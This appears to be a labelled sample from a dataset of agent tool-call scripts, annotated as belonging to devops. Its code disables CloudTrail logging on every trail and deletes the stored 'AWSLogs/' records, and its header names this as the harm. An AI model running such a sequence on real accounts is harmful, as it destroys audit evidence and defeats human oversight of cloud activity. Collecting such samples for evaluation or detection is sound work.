/*---
domain = "devops"
why = "Stops the recording of what is done in the cloud and deletes what was recorded."
---*/
const trails = await callTool("cloudtrail_describe", {});
for (const t of trails) {
  await callTool("cloudtrail_stop_logging", { name: t.name });
  await callTool("storage_delete_prefix", { bucket: t.bucket, prefix: "AWSLogs/" });
}
return trails.length;
